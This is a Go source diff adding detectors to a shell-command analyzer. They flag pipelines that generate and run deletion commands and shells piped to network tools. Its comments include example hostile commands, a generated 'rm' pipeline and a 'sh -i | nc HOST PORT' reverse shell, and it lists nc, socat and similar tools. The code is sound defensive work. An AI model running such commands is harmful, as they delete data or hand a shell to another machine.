@@ -299,6 +299,76 @@ func (r *run) pipe(c *command, inner []shline.Word, lang string) {
 	r.add(Finding{
 		Span: span, Level: tcpdb.High, Rule: "flow.opaque", Reason: "runs what another command writes, which is not known here",
 	})
+	r.spelled(sources, lang)
+}
+
+// spelled judges what the commands before an interpreter write into it where
+// their words spell out a part of it: sed 's/^/rm /' list | sh.
+func (r *run) spelled(sources []command, lang string) {
+	for i := range sources {
+		s := &sources[i]
+		if len(s.words) == 0 || names(s.words[0].Text, "grep", "egrep", "fgrep", "rg", "ag", "ack", "cat", "find", "ls") {
+			continue
+		}
+		for k := 1; k < len(s.words); k++ {
+			w := &s.words[k]
+			if f, ok := spells(w.Text, lang, k+1 < len(s.words)); ok {
+				f.Span = r.text.at(w.Start, w.End)
+				r.add(f)
+				return
+			}
+		}
+	}
+}
+
+// spells reports whether a text holds the beginning of a command that deletes, in
+// the language of what will run it. More says that words follow the text.
+func spells(text, lang string, more bool) (f Finding, ok bool) {
+	f = Finding{
+		Level: tcpdb.Critical, Flags: tcpdb.Destructive | tcpdb.FileModification, Rule: "flow.spelled", Scope: tcpdb.Tree,
+		Reason: "writes commands that delete, and runs them",
+	}
+	switch lang {
+	case shellLanguage:
+		for rest := text; ; {
+			before, after, found := strings.Cut(rest, "rm")
+			if !found {
+				return f, false
+			}
+			start := before == "" && len(rest) == len(text) || before != "" && strings.IndexByte(" /^\"'`;|&(@,~\n\t", before[len(before)-1]) >= 0
+			if start && (after == "" && more || after != "" && (after[0] == ' ' || after[0] == '\t')) {
+				return f, true
+			}
+			rest = after
+		}
+	case "sql":
+		f.Flags, f.Reason = tcpdb.Destructive, "writes statements that delete, and runs them"
+		lower := strings.ToLower(text)
+		for _, verb := range [...]string{"drop ", "truncate ", "delete from "} {
+			if strings.Contains(lower, verb) {
+				return f, true
+			}
+		}
+	}
+	return f, false
+}
+
+// lendsShell judges a pipe that hands what a shell writes to another machine: with
+// sh -i | nc HOST PORT that machine has a shell here.
+func (r *run) lendsShell(c *command, words []shline.Word) {
+	if c.from >= c.to || !names(words[0].Text, "nc", "ncat", "netcat", "socat", "telnet", "openssl") {
+		return
+	}
+	for i := c.from; i < c.to; i++ {
+		s := &r.program.commands[i]
+		if len(s.words) > 0 && language(s.words[0].Text) == shellLanguage && !names(s.words[0].Text, "at", "batch") && r.readsInput(s.words) {
+			r.add(Finding{
+				Span: r.text.at(s.start, c.end), Level: tcpdb.High, Flags: tcpdb.NetworkAccess | tcpdb.PrivilegeEscalation,
+				Rule: "flow.shell", Reason: "gives a shell to another machine", Scope: tcpdb.Remote,
+			})
+			return
+		}
+	}
 }
 
 // network reports whether a command fetches something.
